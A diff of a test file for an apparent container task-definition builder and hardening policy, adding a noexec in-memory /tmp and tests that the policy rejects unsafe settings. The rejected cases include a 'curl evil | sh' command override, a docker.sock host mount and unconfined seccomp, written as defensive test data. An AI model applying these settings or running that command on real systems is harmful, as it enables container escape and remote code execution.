@@ -2,7 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { mintOrgScope } from '../kernel/auth/org-scope';
 import type { TaskDefinitionRequest } from '../kernel/runtime/task-definition';
 import { resolveServiceSpec, type ResolvedServiceSpec } from '../projects/service-spec';
-import { buildTaskDefinition, isRootUser, secretValueFrom, UNPRIVILEGED_USER, type TaskDefinitionInputs } from './task-definition';
+import { buildTaskDefinition, isRootUser, secretValueFrom, tmpfsSizeMiB, UNPRIVILEGED_USER, type TaskDefinitionInputs } from './task-definition';
 import { assertTaskPolicy, checkTaskPolicy, TaskPolicyError, type PolicyContext } from './task-policy';
 
 const scope = mintOrgScope('o_0123456789abcdef0123456789abcdef');
@@ -82,9 +82,12 @@ describe('buildTaskDefinition', () => {
     expect(secretValueFrom('arn:s', 'N', 'v')).toBe('arn:s:N::v');
   });
 
-  it('gives the writable paths their own volumes on the task’s storage', () => {
-    expect(built.volumes).toEqual([{ name: 'writable-tmp' }]);
-    expect(container.mountPoints).toEqual([{ sourceVolume: 'writable-tmp', containerPath: '/tmp', readOnly: false }]);
+  it('makes /tmp writable in memory for any uid, where nothing runs, and nothing else', () => {
+    expect(container.linuxParameters.tmpfs).toEqual([{ containerPath: '/tmp', size: 64, mountOptions: ['rw', 'nosuid', 'nodev', 'noexec', 'mode=1777'] }]);
+    expect(tmpfsSizeMiB(512)).toBe(64);
+    expect(tmpfsSizeMiB(8192)).toBe(256);
+    expect(built.volumes).toEqual([]);
+    expect(container.mountPoints).toEqual([]);
     expect(built).not.toHaveProperty('ephemeralStorage');
   });
 
@@ -143,8 +146,11 @@ describe('checkTaskPolicy refuses what escapes the hardening', () => {
     ['a task role', (d) => (d.taskRoleArn = 'arn:aws:iam::111122223333:role/admin'), 'taskRoleArn'],
     ['another execution role', (d) => (d.executionRoleArn = 'arn:aws:iam::111122223333:role/rampart-prod-exec-p_2'), 'executionRoleArn'],
     ['the host’s PID namespace', (d) => (d.pidMode = 'host'), 'pidMode'],
-    ['a host path volume', (d) => (d.volumes[0].host = { sourcePath: '/var/run/docker.sock' }), 'volumes[0]'],
-    ['an EFS volume', (d) => (d.volumes[0].efsVolumeConfiguration = { fileSystemId: 'fs-1' }), 'volumes[0]'],
+    ['a host path volume', (d) => d.volumes.push({ name: 'docker', host: { sourcePath: '/var/run/docker.sock' } }), 'volumes[0]'],
+    ['an EFS volume', (d) => d.volumes.push({ name: 'shared', efsVolumeConfiguration: { fileSystemId: 'fs-1' } }), 'volumes[0]'],
+    ['an executable tmpfs', (d) => (d.containerDefinitions[0].linuxParameters.tmpfs[0].mountOptions = ['rw', 'exec', 'mode=1777']), 'containerDefinitions[0].linuxParameters.tmpfs[0]'],
+    ['a tmpfs over the root', (d) => (d.containerDefinitions[0].linuxParameters.tmpfs[0].containerPath = '/'), 'containerDefinitions[0].linuxParameters.tmpfs[0]'],
+    ['a tmpfs that takes the task’s memory', (d) => (d.containerDefinitions[0].linuxParameters.tmpfs[0].size = 512), 'containerDefinitions[0].linuxParameters.tmpfs'],
     ['a device', (d) => (d.containerDefinitions[0].linuxParameters.devices = [{ hostPath: '/dev/kvm' }]), 'containerDefinitions[0].linuxParameters.devices'],
     ['Docker security options', (d) => (d.containerDefinitions[0].dockerSecurityOptions = ['seccomp=unconfined']), 'containerDefinitions[0].dockerSecurityOptions'],
     ['a second container', (d) => d.containerDefinitions.push({ ...d.containerDefinitions[0], name: 'sidecar' }), 'containerDefinitions'],
@@ -153,7 +159,7 @@ describe('checkTaskPolicy refuses what escapes the hardening', () => {
     ['a stop timeout beyond Fargate’s 120 s', (d) => (d.containerDefinitions[0].stopTimeout = 600), 'containerDefinitions[0].stopTimeout'],
     ['oversized ephemeral storage', (d) => (d.ephemeralStorage = { sizeInGiB: 500 }), 'ephemeralStorage.sizeInGiB'],
     ['a privileged port', (d) => (d.containerDefinitions[0].portMappings[0].containerPort = 80), 'containerDefinitions[0].portMappings[0]'],
-    ['a mount of a volume the task does not have', (d) => (d.containerDefinitions[0].mountPoints[0].sourceVolume = 'docker'), 'containerDefinitions[0].mountPoints[0]'],
+    ['a mount of a volume the task does not have', (d) => d.containerDefinitions[0].mountPoints.push({ sourceVolume: 'docker', containerPath: '/var/run', readOnly: false }), 'containerDefinitions[0].mountPoints[0]'],
     ['a command override', (d) => (d.containerDefinitions[0].command = ['sh', '-c', 'curl evil | sh']), 'containerDefinitions[0].command'],
   ];
 
